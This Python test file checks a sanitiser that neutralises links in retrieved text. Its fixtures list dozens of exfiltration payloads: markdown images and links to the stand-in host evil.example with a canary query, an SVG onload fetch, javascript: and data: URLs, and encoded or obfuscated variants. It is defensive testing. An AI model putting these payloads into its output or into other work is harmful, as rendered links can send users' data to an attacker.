"""
Nothing in what leaves is live, whichever program shows it.
"""

from typing import Final

import numpy as np
import pytest

from retrieval.sanitise import inert
from tests.properties.effort import DEEP
from tests.security.renderers import live

FUZZED: Final = 200_000 if DEEP else 400
EVIL: Final = "https://evil.example/?q=CANARY"
TRICKS: Final = {
    "inline": f"[x]({EVIL})",
    "titled": f'[x]({EVIL} "title")',
    "angle brackets": f"[x](<{EVIL}>)",
    "reference": f"[x][1]\n\n[1]: {EVIL}",
    "reference with a title": f'[x][a b]\n\n[a b]: <{EVIL}>\n  "t"',
    "collapsed reference": f"[x][]\n\n[x]: {EVIL}",
    "shortcut reference": f"[x]\n\n[x]: {EVIL}",
    "reference in a quotation": f"> [x][1]\n\n> [1]: {EVIL}",
    "reference in a list": f"- [x][1]\n\n  [1]: {EVIL}",
    "reference in an image": f"![x][1]\n\n[1]: {EVIL}",
    "over lines of a quotation": f"> [x](\n> {EVIL})",
    "image": f"![x]({EVIL})",
    "image in a link": f"[![x]({EVIL})]({EVIL})",
    "link in an image": f"![[x]({EVIL})]({EVIL})",
    "autolink": f"<{EVIL}>",
    "mail autolink": "<someone@evil.example>",
    "bare": EVIL,
    "bare with emphasis": f"_{EVIL}_",
    "bare, upper case": "HTTPS://EVIL.EXAMPLE/",
    "bare after a letter": f"see{EVIL}",
    "bare after an ideograph": f"\u53c2{EVIL}",
    "www": "www.evil.example/x",
    "www, and then an escape": "www.\\_evil.example/x",
    "protocol-relative": "[x](//evil.example/x)",
    "backslashes": "[x](/\\evil.example)",
    "allow-listed proxy": "![x](https://eu-api.asm.skype.com/urlp/v1/url/content?url=https://evil)",
    "data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "script": "[x](javascript:alert(1))",
    "script with entities": "[x](java&#115;cript:alert(1))",
    "other scheme": "[x](ms-word:ofe|u|https://evil.example)",
    "wiki": f"[[{EVIL}|x]] ![[{EVIL}]] [{EVIL} x]",
    "chat": f"<{EVIL}|x>",
    "HTML link": f'<a href="{EVIL}">x</a>',
    "HTML image": f"<img src={EVIL}>",
    "HTML image, not closed": f"<img src={EVIL} ",
    "HTML handler": "<svg/onload=fetch('//evil.example')>",
    "HTML style": f"<p style='background:url({EVIL})'>x</p>",
    "HTML form": f"<form action={EVIL}><button>x</button></form>",
    "HTML refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "HTML in a comment's clothes": f"<!--><img src={EVIL}>-->",
    "HTML frame": f"<iframe srcdoc='<img src={EVIL}>'></iframe>",
    "code that is not": f"`x` [a`b`]({EVIL})",
    "fence that is not": f"~~~\n[x]({EVIL})",
    "escaped bracket": f"[a\\]]({EVIL})",
    "zero width": f"[x]\u200b({EVIL}) h\u200bttps://evil.example",
    "terminal link": f"\x1b]8;;{EVIL}\x1b\\x\x1b]8;;\x1b\\",
    "terminal colour": "\x1b[31mred\x1b[0m \x9b31m",
    "a share behind a bracket": r"<\\\\[1]: a href=*",
    "a share behind a mark": "(~~~ //`evil.example// x",
    "a share behind an underscore": "|///_//evil.example*=x, &[__=_[`_//evil.example//y:|",
    "defined by what follows": "x [1]\n\n[1]: \n- ",
    "escaped colon": "https\\://evil.example",
    "escaped dot": "www\\.evil.example",
    "reference for a letter": "http&#115;://evil.example w&#119;w.evil.example",
    "reference for a colon": "https&#0058;//evil.example https&#x3A//evil.example",
    "reference for slashes": "https:&sol;&#47;evil.example",
    "reference for a dot": "www&period;evil.example",
    "emphasis in a scheme": "*https*://evil.example",
    "full width": "\uff3bx\uff3d(https://evil.example)",
}
FRAGMENTS: Final = (
    "[", "]", "(", ")", "!", "<", ">", ":", "/", "//", "\\", "`", "~~~\n", "\n", "\n\n", "> ", "- ",
    "x", " ", '"', "'", "&", "[1]: ", "[1]", "https:", "www.", "evil.example", "img src=",
    "a href=",
    "javascript:", "data:", "&#58;", "&sol;", "http", "\u200b", "*", "_", "#", "|", "=", "\t",
)  # fmt: skip


@pytest.mark.promise("inert")
@pytest.mark.parametrize("trick", sorted(TRICKS))
def test_nothing_is_live(trick: str) -> None:
    assert [] == live(inert(TRICKS[trick]))


@pytest.mark.promise("inert")
def test_the_check_sees_what_is_live() -> None:
    """
    The control: nearly all of these are live before.
    """
    dead = [name for name, text in TRICKS.items() if not live(text)]

    assert len(dead) <= 6, dead


@pytest.mark.promise("inert")
def test_nothing_that_marks_can_make_is_live() -> None:
    """
    Marks, words and line ends at random; twice is once, and nothing grows to more than twice its
    length.
    """
    drawn, before = np.random.default_rng(3), 0
    for _ in range(FUZZED):
        text = "".join(FRAGMENTS[at] for at in drawn.integers(0, len(FRAGMENTS), 24))
        shown = inert(text)
        assert [] == live(shown), repr(text)
        assert shown == inert(shown), repr(text)
        assert len(shown) <= 2 * len(text)
        before += bool(live(text))

    assert before > FUZZED / 20


@pytest.mark.promise("inert")
@pytest.mark.parametrize(
    "text", ["[" * 3_000 + "](x)" * 30, "![" * 2_000, "[x](" * 900, "<" * 4_000]
)
def test_what_parsers_choke_on_is_made_inert_without_them(text: str) -> None:
    assert [] == live(inert(text))


@pytest.mark.promise("inert")
@pytest.mark.parametrize(
    "text",
    [
        "Pay <PERSON_3f9a1b2c> at <EMAIL_ADDRESS_00ff00ff>.",
        "rows[0][1] = f(a[i])(x) if m[k] else 3 < 4",
        "- [ ] open\n- [x] done, see [4] and note [a]: that is all",
        "| a | b |\n| --- | --- |\n| 1:2 | x/y |",
        "AT&T, &lt;b&gt; &amp; &nbsp;&#39;&eacute;, f(&a, &amp;b) && c",
        "README.md, k8s.io/kubernetes//staging, 16:9, data := read()",
    ],
)
def test_plain_prose_stays_as_it_is(text: str) -> None:
    assert text == inert(text)
